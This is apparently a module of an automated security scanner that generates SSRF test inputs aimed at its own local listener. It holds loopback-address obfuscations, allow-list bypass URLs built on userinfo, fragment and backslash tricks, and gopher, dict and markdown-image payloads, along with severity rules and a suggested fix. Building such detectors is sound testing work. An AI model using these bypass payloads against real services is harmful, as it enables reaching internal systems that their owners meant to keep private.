import { looksLike, seedText } from '../affinity.ts';
import { textOfJson } from '../place.ts';
import type { Severity } from '../../protocol/finding.ts';
import type { Listener } from '../world.ts';
import type { Made, Making, Payload, Position, Strategy, Subject } from '../strategy.ts';

/** Other ways to write the address of this machine. Nothing here asks a name server that is not on it. */
const SPELLINGS: readonly { id: string; host: string; isCore?: boolean }[] = [
  { id: 'decimal', host: '2130706433', isCore: true },
  { id: 'ipv6-mapped', host: '[::ffff:7f00:1]', isCore: true },
  { id: 'short', host: '127.1', isCore: true },
  { id: 'name', host: 'localhost' },
  { id: 'name-dot', host: 'localhost.' },
  { id: 'name-upper', host: 'LOCALHOST' },
  { id: 'ipv6', host: '[::1]' },
  { id: 'ipv6-long', host: '[0:0:0:0:0:0:0:1]' },
  { id: 'ipv6-mapped-dots', host: '[::ffff:127.0.0.1]' },
  { id: 'ipv6-any', host: '[::]' },
  { id: 'any', host: '0.0.0.0' },
  { id: 'zero', host: '0' },
  { id: 'hex', host: '0x7f000001' },
  { id: 'hex-parts', host: '0x7f.0x0.0x0.0x1' },
  { id: 'octal', host: '017700000001' },
  { id: 'octal-parts', host: '0177.0.0.1' },
  { id: 'padded', host: '127.000.000.001' },
  { id: 'dot', host: '127.0.0.1.' },
  { id: 'circled', host: '①②⑦.⓪.⓪.①' },
  { id: 'wide-dots', host: '127。0。0。1' },
  { id: 'encoded', host: '%31%32%37.0.0.1' },
];

/** Words of a tool that promises to ask only some: whoever breaks that did more than it is there for. */
const PROMISES =
  /\b(?:allow(?:ed)?[- ]?list(?:ed)?|whitelist(?:ed)?|(?:allowed|trusted|public|external|approved) (?:hosts?|domains?|urls?|addresses|web ?sites?|sites?|servers?|sources?)|(?:private|internal|local) (?:addresses|hosts?|networks?|urls?|ips?) (?:are|is) (?:blocked|refused|rejected|not))/i;

/** How bad it is that the plain address is asked for. */
function plainly(subject: Subject, position: Position): Severity {
  if (PROMISES.test(subject.description) || PROMISES.test(position.description)) return 'high';
  return looksLike(position, 'url') >= 0.5 ? 'low' : 'medium';
}

const base = ({ port }: Listener, host = '127.0.0.1'): string => `${host}:${port}`;
const asJson = (text: string): string => JSON.stringify(text);

/** Beside the plain address nothing is news where that is asked for as well. */
function spelt(id: string, isCore: boolean, write: (at: Listener, token: string) => string): Payload {
  return {
    id,
    isCore,
    make({ listener, token }): Made | undefined {
      if (listener === undefined) return undefined;
      const unless = asJson(`http://${base(listener)}/plain/${token}`);
      return { json: asJson(write(listener, token)), expects: [{ kind: 'listener', unless }] };
    },
  };
}

/** Host that a value leads to, which may be the only one that is let through. */
function hostIn(value: string | undefined): string | undefined {
  const text = value?.slice(0, 500);
  if (text === undefined) return undefined;
  const found =
    /^(?:[a-z][a-z0-9+.-]*:)?\/\/([^/?#\\@\s]+)/i.exec(text) ??
    /^((?:[a-z0-9-]+\.)+[a-z]{2,})(?:[/:]|$)/i.exec(text);
  return found?.[1];
}

/** What a reader of one kind takes for the allowed host, and one of another kind does not. */
function confusing(position: Position): Payload[] {
  const usual = hostIn(seedText(position));
  const { named: example } = position;
  const host = hostIn(example === undefined ? undefined : textOfJson(example)) ?? usual ?? 'example.com';
  const named = (name: string, isCore: boolean, write: (at: string, token: string) => string): Payload =>
    spelt(name, isCore, (listener, token) => write(base(listener), token));
  return [
    named('userinfo', true, (at, token) => `http://${host}@${at}/${token}`),
    named('userinfo-password', false, (at, token) => `http://${host.replace(/:.*$/, '')}:80@${at}/${token}`),
    named('userinfo-secure', false, (at, token) => `https://${host}@${at}/${token}`),
    named('userinfo-encoded', false, (at, token) => `http://${host}%2f@${at}/${token}`),
    named('fragment', false, (at, token) => `http://${at}/${token}#@${host}/`),
    named('fragment-dot', false, (at, token) => `http://${at}/${token}#.${host}`),
    named('query', false, (at, token) => `http://${at}/${token}?https://${host}/`),
    named('path', false, (at, token) => `http://${at}/${token}/${host}`),
    named('backslash', false, (at, token) => `http://${at}\\${token}@${host}/`),
    // Some readers ask the allowed host then: only where it is asked anyway.
    ...(usual === undefined || usual !== host
      ? []
      : [named('backslash-before', false, (at, token) => `http://${host}\\@${at}/${token}`)]),
    named('slash-three', false, (at, token) => `http:///${at}/${token}?${host}`),
  ];
}

const FORMS: readonly Payload[] = [
  spelt('scheme-upper', false, (at, token) => `HTTP://${base(at, 'localhost')}/${token}`),
  spelt('scheme-none', false, (at, token) => `//${base(at)}/${token}`),
  spelt('scheme-space', false, (at, token) => ` http://${base(at)}/${token}`),
  spelt('scheme-tab', false, (at, token) => `ht\ttp://${base(at)}/${token}`),
  spelt('scheme-one-slash', false, (at, token) => `http:/${base(at)}/${token}`),
  spelt('scheme-url', false, (at, token) => `url:http://${base(at)}/${token}`),
  spelt('gopher', false, (at, token) => `gopher://${base(at)}/_GET%20/${token}%20HTTP/1.0%0d%0a%0d%0a`),
  spelt('dict', false, (at, token) => `dict://${base(at)}/${token}`),
  spelt('ftp', false, (at, token) => `ftp://${token}@${base(at)}/${token}`),
  spelt('websocket', false, (at, token) => `ws://${base(at)}/${token}`),
  // Where only a host is asked for, and the rest is put around it.
  spelt('host-and-path', true, (at, token) => `${base(at)}/${token}?`),
  spelt('host-and-fragment', false, (at, token) => `${base(at)}/${token}#`),
  spelt('host-after-at', false, (at, token) => `x@${base(at)}/${token}?`),
  spelt('redirect', false, (at, token) => `http://${base(at)}/redirect/${token}`),
  // Where a text is shown with what it names.
  spelt('markdown', false, (at, token) => `![x](http://${base(at)}/${token})`),
  spelt('markup', false, (at, token) => `<img src="http://${base(at)}/${token}">`),
];

function plain(subject: Subject, position: Position): Payload[] {
  const severity = plainly(subject, position);
  const address = ({ listener, token }: Making): string | undefined =>
    listener && asJson(`http://${base(listener)}/${token}`);
  return [
    {
      id: 'plain',
      isCore: true,
      make(making) {
        const json = address(making);
        return json === undefined ? undefined : { json, severity, expects: [{ kind: 'listener' }] };
      },
    },
    {
      // That somebody was asked says less than that the answer can be read.
      id: 'plain-read',
      isCore: false,
      make(making) {
        const json = address(making);
        if (json === undefined || making.listener === undefined) return undefined;
        const read = severity === 'high' ? 'high' : 'medium';
        return { json, severity: read, expects: [{ kind: 'computed', value: making.listener.body }] };
      },
    },
  ];
}

export const ssrf: Strategy = {
  meta: {
    id: 'ssrf',
    title: 'Requests to this machine',
    about:
      'An address of this machine in all its spellings, each with a token of its own; found when our listener is asked for it.',
    cwe: 'CWE-918',
    optIn: false,
    severity: 'high',
    finding: 'Makes requests to addresses it should not reach',
    fix: 'Resolve the host first and refuse addresses that are not public, then connect to exactly the address that was checked. Follow no redirects, or check each like the first.',
  },
  of: 'value',
  fits(subject, position) {
    if (position === undefined || subject.kind === 'protocol') return 0;
    return looksLike(position, 'url', subject);
  },
  payloads(subject, position) {
    if (position === undefined) return [];
    return [
      ...plain(subject, position),
      ...SPELLINGS.map(({ id, host, isCore = false }) =>
        spelt(id, isCore, (at, token) => `http://${base(at, host)}/${token}`),
      ),
      ...confusing(position),
      ...FORMS,
    ];
  },
  needs: ({ listener }) => (listener === undefined ? 'There is no listener to be asked.' : undefined),
};
